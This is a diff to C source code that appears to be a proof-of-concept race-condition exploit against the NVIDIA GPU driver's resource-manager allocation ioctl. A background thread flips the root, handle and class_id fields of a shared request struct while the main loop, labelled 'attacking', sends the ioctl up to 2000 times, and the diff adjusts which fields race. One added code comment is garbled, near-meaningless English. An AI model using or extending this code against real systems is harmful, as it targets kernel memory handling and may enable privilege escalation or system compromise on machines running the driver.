@@ -10,15 +10,19 @@ enum { ATTEMPTS = 2000, KIB_512 = 512 << 10 };
 static struct rm_alloc shot;
 static volatile int over;
 
+/* Of memory the client is the first word, which of a client is its name to be. */
 static void *flip(void *arg)
 {
-    volatile uint32_t *class_id = &shot.class_id;
+    volatile struct rm_alloc *s = &shot;
+    uint32_t client = *(const uint32_t *)arg;
 
-    (void)arg;
     while (!over) {
-        *class_id = NV01_ROOT_CLIENT;
+        s->root = s->handle = 0;
+        s->class_id = NV01_ROOT_CLIENT;
         usleep(200);
-        *class_id = NV01_MEMORY_LOCAL_USER;
+        s->handle = 0;
+        s->root = client;
+        s->class_id = NV01_MEMORY_LOCAL_USER;
         usleep(200);
     }
     return NULL;
@@ -32,9 +36,9 @@ int main(void)
     pthread_t thread;
 
     say("attacking");
-    pthread_create(&thread, NULL, flip, NULL);
+    pthread_create(&thread, NULL, flip, &client);
     for (int i = 0; i < ATTEMPTS; i++) {
-        shot = (struct rm_alloc){.root = client, .parent = DEVICE, .params = (uintptr_t)&memory};
+        shot = (struct rm_alloc){.parent = DEVICE, .params = (uintptr_t)&memory};
         memory = (struct rm_memory){.size = KIB_512};
         if (ioctl(fd, RM_CMD(NV_ESC_RM_ALLOC, sizeof(shot)), &shot)) {
             over = 1;
